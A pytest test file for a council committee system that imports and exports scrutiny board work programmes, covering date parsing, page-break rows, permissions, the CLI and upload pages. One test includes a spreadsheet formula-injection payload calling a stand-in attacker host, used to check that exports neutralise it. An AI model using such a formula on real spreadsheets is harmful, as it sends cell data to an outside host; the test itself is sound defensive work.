"""Importing and exporting work programmes as councils keep them today."""

import io
import os
import re
from datetime import date, datetime
from importlib import resources

import pytest
from docx import Document
from sqlalchemy import event
from sqlmodel import select

from committee.agenda.programme import programme_table
from committee.errors import PermissionDenied
from committee.imports.export import to_csv, to_docx
from committee.imports.operations import ImportRefused, import_work_programme
from committee.imports.parse import parse_rows
from committee.imports.readers import UnreadableFile, read_table
from committee.meetings.models import Meeting
from committee.people.operations import set_password
from committee.timeutil import LONDON, to_london
from committee.visibility.queries import EVERYTHING, PUBLIC
from committee.work_programme.models import StateChange, WorkProgrammeEntry
from tests.conftest import PASSWORD, csrf_token, sign_in

HEADER = "Date\tTitle\tDetail\tCabinet Member/ Lead Officer"
FIXTURE = (
    resources.files("committee.demo").joinpath("data", "work-programme-2018-19.tsv").read_bytes()
)


@pytest.fixture
def board(make):
    return make.committee(
        "scrutiny-board-2",
        name="Education and Children's Services Scrutiny Board (2)",
        usual_venue="Committee Room 3 - Council House",
    )


@pytest.fixture
def clerk(make, board):
    return make.clerk(board, name="Michelle Rose", email="michelle.rose@council.test")


def run_import(session, clerk, board, content, year=2018, filename="programme.tsv", **options):
    # The fixture is the record of 2018/19's programme: its meetings have all been held.
    options.setdefault("record_history", True)
    programme = parse_rows(read_table(content, filename), year)
    result = import_work_programme(
        session,
        actor=clerk,
        committee=board,
        year=year,
        programme=programme,
        source_name=filename,
        **options,
    )
    session.commit()
    return result


def tsv(*rows: str) -> bytes:
    return "\n".join([HEADER, *rows]).encode()


def entries(session, board) -> list[WorkProgrammeEntry]:
    session.expire_all()
    return list(
        session.exec(
            select(WorkProgrammeEntry)
            .where(WorkProgrammeEntry.committee_id == board.id)
            .order_by(WorkProgrammeEntry.id)
        )
    )


def meeting_days(session, board) -> list[date]:
    meetings = session.exec(
        select(Meeting).where(Meeting.committee_id == board.id).order_by(Meeting.start)
    ).all()
    return [to_london(meeting.start).date() for meeting in meetings]


def test_the_fixture_imports_into_the_right_meetings_and_entries(session, make, board, clerk, now):
    nelson = make.person(name="Kirston Nelson")
    result = run_import(session, clerk, board, FIXTURE)

    # Counted by hand from the table in the agenda pack of 6 September 2018.
    assert meeting_days(session, board) == [
        date(2018, 6, 21),
        date(2018, 7, 19),
        date(2018, 9, 6),
        date(2018, 10, 4),
        date(2018, 11, 1),
        date(2018, 11, 29),
        date(2019, 1, 10),
        date(2019, 2, 28),
        date(2019, 4, 4),
    ]
    meetings = session.exec(select(Meeting).where(Meeting.committee_id == board.id)).all()
    assert {(to_london(m.start).time().hour, m.venue) for m in meetings} == {
        (14, "Committee Room 3 - Council House")
    }
    imported = entries(session, board)
    assert len(imported) == 23
    per_meeting = {}
    for entry in imported:
        meeting = session.get(Meeting, entry.meeting_id) if entry.meeting_id else None
        per_meeting.setdefault(to_london(meeting.start).date() if meeting else None, []).append(
            entry.title
        )
    assert {day: len(titles) for day, titles in per_meeting.items()} == {
        date(2018, 6, 21): 3,
        date(2018, 7, 19): 3,
        date(2018, 9, 6): 2,
        date(2018, 10, 4): 2,
        date(2018, 11, 1): 2,
        date(2019, 1, 10): 2,
        date(2019, 2, 28): 1,
        date(2019, 4, 4): 1,
        None: 7,
    }
    assert per_meeting[date(2018, 9, 6)] == ["Primary Progress (Unvalidated data)", "SCR – Baby F"]
    primary = next(e for e in imported if e.title == "Primary Progress (Unvalidated data)")
    assert (primary.lead_text, primary.cabinet_member) == (
        "Kirston Nelson Cllr Maton",
        "Cllr Maton",
    )
    from committee.work_programme.queries import lead_officers_of

    assert lead_officers_of(session, primary) == [nelson]
    undated = [e for e in imported if e.meeting_id is None]
    assert {(e.state, e.timing_note) for e in undated} == {("requested", "to_be_determined")}
    # Meetings already held: the entries as the past programme had them, recorded as imported.
    assert primary.state == "scheduled"
    history = session.exec(select(StateChange).where(StateChange.entry_id == primary.id)).all()
    assert [(h.event, h.to_state, h.reason) for h in history] == [
        ("import", "scheduled", "Imported from programme.tsv, row 8.")
    ]
    assert (
        result.plan.summary() == "23 entries (23 new, 0 changed, 0 unchanged); 9 meetings (9 new)"
    )


def test_importing_the_same_file_twice_changes_nothing(session, board, clerk, now):
    run_import(session, clerk, board, FIXTURE)
    before = [(e.id, e.title, e.detail, e.meeting_id, e.version) for e in entries(session, board)]
    history = len(session.exec(select(StateChange)).all())

    result = run_import(session, clerk, board, FIXTURE)

    assert (
        result.plan.summary() == "23 entries (0 new, 0 changed, 23 unchanged); 9 meetings (0 new)"
    )
    assert [
        (e.id, e.title, e.detail, e.meeting_id, e.version) for e in entries(session, board)
    ] == before
    assert len(session.exec(select(StateChange)).all()) == history


def test_a_corrected_file_updates_the_entries_it_matches(session, board, clerk, now):
    run_import(session, clerk, board, FIXTURE)
    corrected = FIXTURE.replace(
        b"Members requested a report in September of the unvalidated data when available",
        b"Members asked for the unvalidated data as soon as it is available",
    ).replace(b"SCR \xe2\x80\x93 Baby F", b"SCR - Baby F")

    result = run_import(session, clerk, board, corrected)

    assert (
        result.plan.summary() == "23 entries (0 new, 2 changed, 21 unchanged); 9 meetings (0 new)"
    )
    changed = {row.title: row.changes for row in result.plan.rows if row.action == "update"}
    assert changed == {"Primary Progress (Unvalidated data)": ["detail"], "SCR - Baby F": ["title"]}
    titles = [e.title for e in entries(session, board)]
    assert "SCR - Baby F" in titles
    assert len(titles) == 23


def test_coming_meetings_are_scheduled_through_the_lifecycle(session, board, clerk, now):
    run_import(
        session, clerk, board, tsv("4th March\tFostering\tRecruitment\tPaul Smith"), year=2026
    )
    entry = entries(session, board)[0]
    assert entry.state == "scheduled"
    assert to_london(session.get(Meeting, entry.meeting_id).start) == datetime(
        2027, 3, 4, 14, 0, tzinfo=LONDON
    )
    history = session.exec(
        select(StateChange).where(StateChange.entry_id == entry.id).order_by(StateChange.id)
    ).all()
    assert [(h.event, h.to_state) for h in history] == [
        ("create", "requested"),
        ("schedule", "scheduled"),
    ]


def test_a_moved_date_in_a_corrected_file_defers_the_entry(session, board, clerk, now):
    run_import(session, clerk, board, tsv("4th March\tFostering\t\t"), year=2026)
    result = run_import(session, clerk, board, tsv("8th April\tFostering\t\t"), year=2026)
    assert [row.changes for row in result.plan.rows] == [["meeting"]]
    entry = entries(session, board)[0]
    assert to_london(session.get(Meeting, entry.meeting_id).start).date() == date(2027, 4, 8)
    last = session.exec(
        select(StateChange).where(StateChange.entry_id == entry.id).order_by(StateChange.id.desc())
    ).first()
    assert (last.event, last.reason) == ("defer", "Imported from programme.tsv, row 2.")


@pytest.mark.parametrize(
    ("cell", "year", "expected"),
    [
        ("21st June 2018", 2018, date(2018, 6, 21)),
        ("18 June 2015", 2015, date(2015, 6, 18)),
        ("4 th July", 2018, date(2018, 7, 4)),
        ("10th January", 2018, date(2019, 1, 10)),  # no year: January is in 2018/19's second year
    ],
)
def test_dates_as_councils_write_them(session, board, clerk, now, cell, year, expected):
    run_import(session, clerk, board, tsv(f"{cell}\tFostering\t\t"), year=year)
    assert meeting_days(session, board) == [expected]


def test_a_note_after_the_date_gives_the_meetings_venue(session, board, clerk, now):
    run_import(
        session,
        clerk,
        board,
        tsv("5 November 2015 – to take place at the Central Library\tLibraries\t\t"),
        year=2015,
    )
    meeting = session.exec(select(Meeting)).one()
    assert (to_london(meeting.start).date(), meeting.venue) == (
        date(2015, 11, 5),
        "the Central Library",
    )


@pytest.mark.parametrize(
    ("cell", "timing"),
    [
        ("Date to be determined", "to_be_determined"),
        ("Date to be decided", "to_be_determined"),
        ("Next Municipal Year 16/17", "next_municipal_year"),
    ],
)
def test_no_date_yet(session, board, clerk, now, cell, timing):
    run_import(session, clerk, board, tsv(f"{cell}\tSecure Provision\t\tJohn Gregg"), year=2015)
    entry = entries(session, board)[0]
    assert (entry.meeting_id, entry.state, entry.timing_note) == (None, "requested", timing)


def test_a_meeting_with_nothing_planned_is_still_a_meeting(session, board, clerk, now):
    run_import(
        session, clerk, board, tsv("29th November 2018\t\t\t", "10th January 2019\tSchools\t\t")
    )
    assert meeting_days(session, board) == [date(2018, 11, 29), date(2019, 1, 10)]
    assert len(entries(session, board)) == 1


def test_a_row_with_only_its_first_cell_is_a_heading(session, board, clerk, now):
    result = run_import(
        session,
        clerk,
        board,
        tsv(
            "21st June 2018\tFostering\t\t",
            "Performance Monitoring\t\t\t",
            "\tAdoption\t\t",
        ),
    )
    assert result.plan.headings == [(3, "Performance Monitoring")]
    assert [e.title for e in entries(session, board)] == ["Fostering", "Adoption"]
    assert result.plan.problems == []


def test_a_row_split_by_a_page_break_is_one_entry(session, board, clerk, now):
    result = run_import(
        session,
        clerk,
        board,
        tsv(
            "10th January 2019\tReview of the Education\tFollowing a meeting where the proposals\t",
            HEADER,  # the page broke here
            "\t\twere considered, Members requested a progress report\tKirston Nelson Cllr Maton",
        ),
    )
    assert result.plan.problems == []
    imported = entries(session, board)
    assert len(imported) == 1
    assert imported[0].title == "Review of the Education"
    assert (
        imported[0].detail
        == "Following a meeting where the proposals were considered, Members requested a progress report"
    )


def test_a_title_cut_mid_sentence_by_a_page_break_is_joined(session, board, clerk, now):
    run_import(
        session,
        clerk,
        board,
        tsv(
            "10th January 2019\tReview of the Education\tFollowing a meeting\t",
            "\tservice redesign\twhere the proposals were considered\tKirston Nelson",
        ),
    )
    imported = entries(session, board)
    assert [(e.title, e.detail, e.lead_text) for e in imported] == [
        (
            "Review of the Education service redesign",
            "Following a meeting where the proposals were considered",
            "Kirston Nelson",
        )
    ]


def test_the_lead_column_keeps_the_text_and_finds_who_it_can(session, make, board, clerk, now):
    gregg, watson = make.person(name="John Gregg"), make.person(name="Sonia Watson")
    run_import(
        session,
        clerk,
        board,
        tsv("19th July 2018\tImprovement Board\t\tJohn Gregg Sonia Watson Cllr Seaman"),
    )
    entry = entries(session, board)[0]
    from committee.work_programme.queries import lead_officers_of

    assert (entry.lead_text, entry.cabinet_member) == (
        "John Gregg Sonia Watson Cllr Seaman",
        "Cllr Seaman",
    )
    assert lead_officers_of(session, entry) == [gregg, watson]


def test_a_source_column_where_present(session, board, clerk, now):
    content = b"Date\tTitle\tDetail\tCabinet Member/ Lead Officer\tSource\n21st June 2018\tFostering\t\t\tMeeting 23 April 15\n"
    run_import(session, clerk, board, content)
    assert entries(session, board)[0].source == "Meeting 23 April 15"


def test_csv_and_word_tables_read_the_same(session, board, clerk, now):
    csv_content = b'Date,Title,Detail,Cabinet Member/ Lead Officer\n21st June 2018,Fostering,"Recruitment, retention",Paul Smith\n'
    document = Document()
    table = document.add_table(rows=0, cols=4)
    for cells in (
        ["Date", "Title", "Detail", "Cabinet Member/ Lead Officer"],
        ["21st June 2018", "Fostering", "Recruitment, retention", "Paul Smith"],
    ):
        row = table.add_row().cells
        for cell, text in zip(row, cells, strict=True):
            cell.text = text
    heading = table.add_row().cells
    heading[0].merge(heading[3]).text = "Performance Monitoring"  # a heading merged across the row
    buffer = io.BytesIO()
    document.save(buffer)
    from_csv = parse_rows(read_table(csv_content, "programme.csv"), 2018)
    from_docx = parse_rows(read_table(buffer.getvalue(), "programme.docx"), 2018)
    assert [(e.title, e.detail, e.lead) for e in from_csv.entries] == [
        ("Fostering", "Recruitment, retention", "Paul Smith")
    ]
    assert [(e.title, e.detail, e.lead) for e in from_docx.entries] == [
        ("Fostering", "Recruitment, retention", "Paul Smith")
    ]
    assert from_docx.headings == [(3, "Performance Monitoring")]


def test_a_file_with_unreadable_rows_saves_nothing_unless_told_to_skip_them(
    session, board, clerk, now
):
    content = tsv(
        "21st June 2018\tFostering\t\t",
        "31st June 2018\tAdoption\t\t",
        "\t\tSome detail, no title\t",
    )
    with pytest.raises(ImportRefused, match=r"2 rows cannot be imported \(row 3, 4\)"):
        run_import(session, clerk, board, content)
    session.rollback()
    assert entries(session, board) == []
    assert meeting_days(session, board) == []

    result = run_import(session, clerk, board, content, skip_bad_rows=True)
    assert [e.title for e in entries(session, board)] == ["Fostering"]
    assert [(p.row, p.reason) for p in result.plan.problems] == [
        (3, "'31st June 2018' is not a real date"),
        (4, "the row has no title"),
    ]


def test_only_governance_officers_import(session, make, board, now):
    lead = make.person(name="Paul Smith")
    with pytest.raises(PermissionDenied):
        run_import(session, lead, board, FIXTURE)


@pytest.mark.parametrize(
    ("content", "filename", "message"),
    [
        (b"", "empty.tsv", "The file is empty."),
        (b"   \n\n", "blank.csv", "The file is empty."),
        (
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,
            "photo.csv",
            "holds binary data",
        ),
        (os.urandom(4096).replace(b"\x00", b"\x01") + b"\x00", "junk.tsv", "holds binary data"),
        (b"PK\x03\x04 not really a zip", "broken.docx", "not a Word document that can be opened"),
        (
            b"x" * (10 * 1024 * 1024),
            "huge.tsv",
            "The file is 10.0 MB; a work programme is at most 5 MB",
        ),
        (b"anything", "old.doc", "Old Word (.doc) files cannot be read"),
        (b"anything", "sheet.xlsx", "save the sheet as CSV"),
    ],
)
def test_bad_files_are_refused_with_a_clear_reason(content, filename, message):
    with pytest.raises(UnreadableFile, match=re.escape(message)):
        read_table(content, filename)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            b"Dear Members,\nPlease find the work programme attached.\nRegards",
            "row 1: expected a header row naming the columns Date and Title",
        ),
        (
            b"When\tWhat\tWho\n21st June 2018\tFostering\tPaul Smith\n",
            "row 1: expected a header row naming the columns Date and Title",
        ),
        (b"21st June 2018\tFostering\nDate\tTitle\n", "expected a header row"),
    ],
)
def test_text_that_is_not_a_work_programme_is_refused(content, message):
    from committee.imports.parse import NotAWorkProgramme

    with pytest.raises(NotAWorkProgramme, match=message):
        parse_rows(read_table(content, "pasted.tsv"), 2018)


def test_export_then_import_gives_the_same_programme(session, make, board, clerk, now):
    run_import(session, clerk, board, FIXTURE)
    first = entries(session, board)[0]
    first.exempt_paragraph = 1
    session.commit()
    table = programme_table(session, board, 2018, reader=EVERYTHING)
    copy = make.committee("copy", name="Copy", usual_venue="Committee Room 3 - Council House")
    copy_clerk = make.clerk(copy)

    for content, filename in ((to_csv(table), "export.csv"), (to_docx(table), "export.docx")):
        result = run_import(session, copy_clerk, copy, content, filename=filename)
        assert result.plan.problems == []

    def shape(committee):
        rows = []
        for entry in entries(session, committee):
            meeting = session.get(Meeting, entry.meeting_id) if entry.meeting_id else None
            day = to_london(meeting.start).date() if meeting else None
            rows.append(
                (
                    entry.title,
                    entry.detail,
                    entry.lead_text,
                    day,
                    entry.timing_note,
                    entry.exempt_paragraph,
                )
            )
        return rows

    assert shape(copy) == shape(board)
    assert meeting_days(session, copy) == meeting_days(session, board)  # 29 November included


def test_the_public_export_leaves_out_exempt_detail(session, board, clerk, now):
    run_import(
        session, clerk, board, tsv("21st June 2018\tSerious Case Review\tChild H, Foleshill\t")
    )
    entry = entries(session, board)[0]
    entry.exempt_paragraph = 1
    session.commit()
    public = to_csv(programme_table(session, board, 2018, reader=PUBLIC))
    assert b"Foleshill" not in public
    assert b"Exempt information" in public
    assert b"Exempt paragraph" not in public


@pytest.fixture
def run(app):
    runner = app.test_cli_runner()
    return lambda *args, **kwargs: runner.invoke(args=list(args), **kwargs)


def test_the_cli_dry_run_shows_every_row_and_changes_nothing(
    run, session, board, clerk, tmp_path, now
):
    path = tmp_path / "programme.tsv"
    path.write_bytes(FIXTURE + b"\n31st June 2019\tTypo\t\t\n")
    result = run(
        "import-work-programme",
        str(path),
        "--committee",
        "scrutiny-board-2",
        "--year",
        "2018",
        "--dry-run",
        "--skip-bad-rows",
        "--record-history",
    )
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert (
        "Row 2: create the meeting on Thursday, 21st June, 2018 at Committee Room 3 - Council House"
        in lines
    )
    assert 'Row 2: create "The Role of the Corporate Parent" (Thursday, 21st June, 2018)' in lines
    assert "Row 30: cannot import: '31st June 2019' is not a real date" in lines
    assert (
        lines[-1]
        == "Would import: 23 entries (23 new, 0 changed, 0 unchanged); 9 meetings (9 new); 1 row not imported."
    )
    assert entries(session, board) == []


def test_the_cli_refuses_a_file_with_errors_and_saves_nothing(
    run, session, board, clerk, tmp_path, now
):
    path = tmp_path / "programme.tsv"
    path.write_bytes(tsv("21st June 2018\tFostering\t\t", "31st June 2018\tAdoption\t\t"))
    result = run(
        "import-work-programme",
        str(path),
        "--committee",
        "scrutiny-board-2",
        "--year",
        "2018",
        "--record-history",
    )
    assert result.exit_code == 1
    assert "Row 3: cannot import: '31st June 2018' is not a real date" in result.output
    assert "Error: Nothing was imported: 1 row cannot be imported (row 3)." in result.output
    assert entries(session, board) == []


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--committee", "nope", "--year", "2018"], "No committee has the address 'nope'"),
        (
            ["--committee", "scrutiny-board-2", "--year", "18"],
            "18 is not in the range 1974<=x<=2999",
        ),
        (["--committee", "scrutiny-board-2"], "Missing option '--year'"),
    ],
)
def test_bad_cli_arguments(run, board, clerk, tmp_path, args, message):
    path = tmp_path / "programme.tsv"
    path.write_bytes(FIXTURE)
    result = run("import-work-programme", str(path), *args)
    assert result.exit_code != 0
    assert message in result.output


def test_the_cli_reads_pasted_text_and_refuses_junk(run, session, board, clerk, now):
    pasted = run(
        "import-work-programme",
        "-",
        "--committee",
        "scrutiny-board-2",
        "--year",
        "2018",
        "--record-history",
        input=tsv("21st June 2018\tFostering\t\t"),
    )
    assert pasted.exit_code == 0, pasted.output
    junk = run(
        "import-work-programme",
        "-",
        "--committee",
        "scrutiny-board-2",
        "--year",
        "2018",
        input=b"\x00\x01\x02",
    )
    assert junk.exit_code == 1
    assert "holds binary data" in junk.output


def test_the_cli_exports_csv_and_word(run, session, board, clerk, tmp_path, now):
    run_import(session, clerk, board, FIXTURE)
    csv_result = run("export-work-programme", "--committee", "scrutiny-board-2", "--year", "2018")
    assert csv_result.output.splitlines()[1].startswith(
        "21st June 2018,The Role of the Corporate Parent,"
    )
    word = run(
        "export-work-programme",
        "--committee",
        "scrutiny-board-2",
        "--year",
        "2018",
        "--format",
        "docx",
        "--output",
        str(tmp_path / "wp.docx"),
    )
    assert word.output == f"Wrote 24 rows to {tmp_path / 'wp.docx'}.\n"
    assert (
        len(parse_rows(read_table((tmp_path / "wp.docx").read_bytes(), "wp.docx"), 2018).entries)
        == 23
    )


def test_the_upload_page_previews_then_imports(client, session, board, clerk, now):
    set_password(session, person=clerk, password=PASSWORD)
    session.commit()
    sign_in(client, clerk.email)
    url = "/committees/scrutiny-board-2/work-programme/import?year=2018"
    token = csrf_token(client, url)
    preview = client.post(
        url,
        data={
            "csrf_token": token,
            "file": (io.BytesIO(FIXTURE + b"\n31st June 2019\tTypo\t\t\n"), "programme.tsv"),
            "record_history": "yes",
        },
        content_type="multipart/form-data",
    )
    page = preview.get_data(as_text=True)
    assert preview.status_code == 200
    assert (
        "23 entries (23 new, 0 changed, 0 unchanged); 9 meetings (9 new); 1 row not imported."
        in page
    )
    assert "Row 30: &#39;31st June 2019&#39; is not a real date" in page
    assert "Create &#34;Adoption Central England&#34;" in page  # as typed, capitals kept
    assert entries(session, board) == []  # nothing yet

    staged = re.search(r'name="staged" value="([^"]+)"', page).group(1)
    confirm_url = "/committees/scrutiny-board-2/work-programme/import/confirm"
    refused = client.post(confirm_url, data={"csrf_token": token, "staged": staged})
    assert refused.status_code == 422
    assert entries(session, board) == []
    done = client.post(
        confirm_url, data={"csrf_token": token, "staged": staged, "skip_bad_rows": "yes"}
    )
    assert done.status_code == 302
    assert len(entries(session, board)) == 23
    again = client.post(
        confirm_url, data={"csrf_token": token, "staged": staged, "skip_bad_rows": "yes"}
    )
    assert again.status_code == 410  # a preview imports once


def test_the_upload_page_refuses_bad_files_and_outsiders(client, session, make, board, clerk):
    set_password(session, person=clerk, password=PASSWORD)
    outsider = make.person(email="paul.smith@council.test")
    set_password(session, person=outsider, password=PASSWORD)
    session.commit()
    sign_in(client, clerk.email)
    url = "/committees/scrutiny-board-2/work-programme/import?year=2018"
    token = csrf_token(client, url)
    for content, name, message in (
        (b"", "empty.csv", "The file is empty."),
        (
            b"Hello\nthere",
            "note.txt",
            "row 1: expected a header row naming the columns Date and Title",
        ),
    ):
        response = client.post(
            url,
            data={"csrf_token": token, "file": (io.BytesIO(content), name)},
            content_type="multipart/form-data",
        )
        assert response.status_code == 422
        assert message in response.get_data(as_text=True)
    client.post("/sign-out", data={"csrf_token": token})
    sign_in(client, outsider.email)
    assert client.get(url).status_code == 403


def test_exports_and_the_printable_page(client, session, board, clerk, now):
    run_import(session, clerk, board, FIXTURE)
    csv_response = client.get("/committees/scrutiny-board-2/work-programme.csv?year=2018")
    docx_response = client.get("/committees/scrutiny-board-2/work-programme.docx?year=2018")
    printable = client.get("/committees/scrutiny-board-2/work-programme/print?year=2018").get_data(
        as_text=True
    )
    assert (
        csv_response.headers["Content-Disposition"]
        == 'attachment; filename="scrutiny-board-2-work-programme-2018.csv"'
    )
    assert len(parse_rows(read_table(docx_response.data, "x.docx"), 2018).entries) == 23
    assert (
        "Education and Children&#39;s Services Scrutiny Board (2): work programme 2018/19"
        in printable
    )
    assert (
        '<th class="govuk-table__header" scope="row">6th September 2018</th><td class="govuk-table__cell">Primary Progress (Unvalidated data)</td>'
        in printable
    )
    assert (
        '<th class="govuk-table__header" scope="row">29th November 2018</th><td class="govuk-table__cell"></td>'
        in printable
    )


def test_a_cell_longer_than_its_column_is_a_row_problem_not_a_failure(session, board, clerk, now):
    long_title = "Youth services " * 30  # 450 characters
    long_source = "Council " * 40
    header = "Date\tTitle\tDetail\tCabinet Member/ Lead Officer\tSource"
    rows = [
        header,
        "21st June 2018\tFostering\tRecruitment\t\t",
        f"\t{long_title.strip()}\tDetail\t\t",
        f"\tAdoption\tDetail\tKirston Nelson\t{long_source.strip()}",
    ]
    content = "\n".join(rows).encode()
    programme = parse_rows(read_table(content, "programme.tsv"), 2018)
    assert sorted((problem.row, problem.reason) for problem in programme.problems) == [
        (3, f"its Title is {len(long_title.strip())} characters long; at most 300 fit: shorten it"),
        (
            4,
            f"its Source is {len(long_source.strip())} characters long; at most 200 fit: shorten it",
        ),
    ]
    skipped = run_import(session, clerk, board, content, skip_bad_rows=True)
    assert [entry.title for entry in entries(session, board)] == ["Fostering"]
    assert len(skipped.plan.problems) == 2


def test_cells_a_spreadsheet_would_run_are_exported_as_text_and_read_back_as_typed(
    session, make, board, clerk, now
):
    formula = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
    run_import(session, clerk, board, tsv(f"21st June 2018\t{formula}\t+44 24 7683 3111\t"))
    csv_bytes = to_csv(programme_table(session, board, 2018, reader=EVERYTHING))
    assert b"'=HYPERLINK(" in csv_bytes
    assert b"'+44 24 7683 3111" in csv_bytes
    assert b",=HYPERLINK(" not in csv_bytes
    assert b'"=HYPERLINK' not in csv_bytes
    copy = make.committee("copy", name="Copy", usual_venue="Committee Room 3 - Council House")
    run_import(session, make.clerk(copy), copy, csv_bytes, filename="export.csv")
    copied = entries(session, copy)[0]
    assert (copied.title, copied.detail) == (formula, "+44 24 7683 3111")


def test_an_import_reads_as_much_for_thirty_rows_as_for_three(
    session, database, make, board, clerk, now
):
    """Rows over two coming meetings: the entries are made together and each meeting's are
    scheduled at once, so only the writes grow with the rows."""

    def reads_of_import(year: int, rows: int) -> int:
        lines = [
            f"{'4th March' if n % 2 else '8th April'}\tItem {n}\tDetail {n}\tPaul Smith"
            for n in range(rows)
        ]
        seen: list[str] = []

        def count(*args: object) -> None:
            seen.append(str(args[2]))

        event.listen(database.engine, "before_cursor_execute", count)
        try:
            result = run_import(session, clerk, board, tsv(*lines), year=year, record_history=False)
        finally:
            event.remove(database.engine, "before_cursor_execute", count)
        assert result.plan.count("create") == rows  # positive control: every row was imported
        scheduled = [entry for entry in entries(session, board) if entry.municipal_year == year]
        assert [entry.state for entry in scheduled] == ["scheduled"] * rows
        return sum(1 for statement in seen if statement.lstrip().upper().startswith("SELECT"))

    reads_of_import(2026, 2)  # what a session reads once is read
    assert reads_of_import(2027, 30) == reads_of_import(2028, 3)
